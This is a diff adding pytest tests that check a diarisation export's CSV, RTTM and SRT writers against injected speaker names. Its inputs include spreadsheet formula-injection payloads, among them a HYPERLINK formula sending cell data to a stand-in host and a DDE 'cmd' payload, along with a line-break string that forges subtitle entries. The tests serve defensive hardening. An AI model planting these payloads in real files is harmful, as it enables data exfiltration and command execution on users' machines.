@@ -2,6 +2,7 @@ from __future__ import annotations
 
 import csv
 import io
+from dataclasses import replace
 
 import pytest
 
@@ -62,3 +63,50 @@ def test_nothing_said_is_nothing_written() -> None:
 @pytest.mark.parametrize(("seconds", "shown"), [(0.0, "0:00.0"), (59.96, "1:00.0"), (3725.5, "1:02:05.5")])
 def test_the_clock(seconds: float, shown: str) -> None:
     assert clock(seconds) == shown
+
+
+@pytest.mark.parametrize(
+    "name",
+    [
+        '=HYPERLINK("http://evil.example/?"&A1)',
+        "+1+cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(A1)",
+        "\t=1",
+        "\r=1",
+        "\n=1",
+        "  =1",
+        "\N{FULLWIDTH EQUALS SIGN}1",
+        "\N{FULLWIDTH PLUS SIGN}1",
+        "\N{FULLWIDTH HYPHEN-MINUS}1",
+        "\N{FULLWIDTH COMMERCIAL AT}A",
+    ],
+)
+def test_a_name_is_no_formula_of_a_spreadsheet(name: str) -> None:
+    (row,) = csv.DictReader(io.StringIO(csv_rows(recording(SpeakerRef("spk_1", name))), newline=""))
+    assert row["speaker"] == f"'{name}"
+
+
+@pytest.mark.parametrize("name", ["Ada B.", "Ada-Lou", "ada@example.org", "'t Hooft", "1=2"])
+def test_a_usual_name_stays_as_it_is(name: str) -> None:
+    (row,) = csv.DictReader(io.StringIO(csv_rows(recording(SpeakerRef("spk_1", name)))))
+    assert row["speaker"] == name
+
+
+def test_numbers_below_zero_stay_numbers() -> None:
+    found = recording(ADA)
+    (row,) = csv.DictReader(io.StringIO(csv_rows(replace(found, turns=(replace(found.turns[0], llr=-1.5),)))))
+    assert row["llr"] == "-1.5000"
+
+
+HOSTILE = "Ada\r\n\r\n2\n00:00:00,000 --> 00:00:09,000\n\N{LINE SEPARATOR}SPEAKER x 1 0 9 <NA> <NA> Ben <NA> <NA>\x85\t"
+
+
+def test_no_name_breaks_a_format() -> None:
+    found = recording(SpeakerRef("spk_1", HOSTILE))
+    (line,) = rttm(found, HOSTILE).splitlines()
+    assert len(line.split(" ")) == 10
+    subtitle = srt(found).splitlines()
+    assert (len(subtitle), [at for at, text in enumerate(subtitle) if "-->" in text]) == (4, [1])
+    (row,) = csv.DictReader(io.StringIO(csv_rows(found), newline=""))
+    assert row["speaker"] == HOSTILE
